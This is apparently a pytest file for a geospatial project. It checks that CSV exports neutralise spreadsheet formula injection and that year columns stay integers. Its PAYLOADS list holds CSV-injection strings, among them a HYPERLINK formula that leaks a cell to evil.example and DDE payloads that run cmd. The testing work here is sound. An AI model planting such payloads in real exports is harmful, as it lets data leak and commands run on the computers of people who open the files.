"""Spreadsheet-safe CSV outputs (issue 12, failure 2) and integer years (failure 10), on frames built
in code; the end-to-end run through `growth-zones assess` is in tests/test_cli_nothing_silent.py."""

from __future__ import annotations

import csv

import geopandas as gpd
import pandas as pd
import pytest
import shapely

from growth_zones.workflows.outputs import (
    read_csv_output,
    spreadsheet_safe,
    write_csv,
    write_gpkg,
)

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'already quoted",
    "=1",
]
HARMLESS = ["-5", "-3.5e2", "+7", "GZ-001", "a=b", "Normal name", "", "£ accents é", "<b>x</b>"]


@pytest.mark.parametrize("value", PAYLOADS)
def test_formula_triggers_are_written_as_text(value):
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS)
def test_numbers_and_plain_text_are_left_alone(value):
    assert spreadsheet_safe(value) == value


def _oracle_first_chars(path) -> list[str]:
    """Every text cell as a spreadsheet would get it: the raw CSV cells, read with the csv module."""
    with open(path, newline="", encoding="utf-8") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def test_every_cell_of_a_written_csv_is_safe_and_reads_back_exactly(tmp_path):
    values = PAYLOADS + HARMLESS
    frame = pd.DataFrame(
        {
            "id": values,
            "note": list(reversed(values)),
            "score": [-0.5 + i for i in range(len(values))],
            "target_year": pd.array([2030] * (len(values) - 1) + [None], dtype="Int64"),
        }
    )
    out = write_csv(frame, tmp_path / "t.csv")
    cells = _oracle_first_chars(out)
    risky = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # the only cells a spreadsheet could run are plain numbers (negative scores)
    assert risky and all(float(c) == float(c) for c in risky)
    back = read_csv_output(out)
    assert list(back["id"]) == values and list(back["note"]) == list(reversed(values))
    assert list(back["target_year"])[:2] == ["2030", "2030"] and back["target_year"].iloc[-1] == ""
    assert "2030.0" not in out.read_text()


def test_geopackage_keeps_the_raw_text_and_integer_years(tmp_path):
    frame = gpd.GeoDataFrame(
        {
            "id": PAYLOADS,
            "target_year": pd.array([2030, None] * 4, dtype="Int64"),
        },
        geometry=[shapely.box(0, 0, 100, 100)] * len(PAYLOADS),
        crs="EPSG:27700",
    )
    path = write_gpkg(frame, tmp_path / "t.gpkg", layer="t")
    back = gpd.read_file(path, layer="t")
    assert list(back["id"]) == PAYLOADS
    import pyogrio

    info = pyogrio.read_info(path, layer="t")
    assert dict(zip(info["fields"], info["dtypes"], strict=True))["target_year"] == "int64"
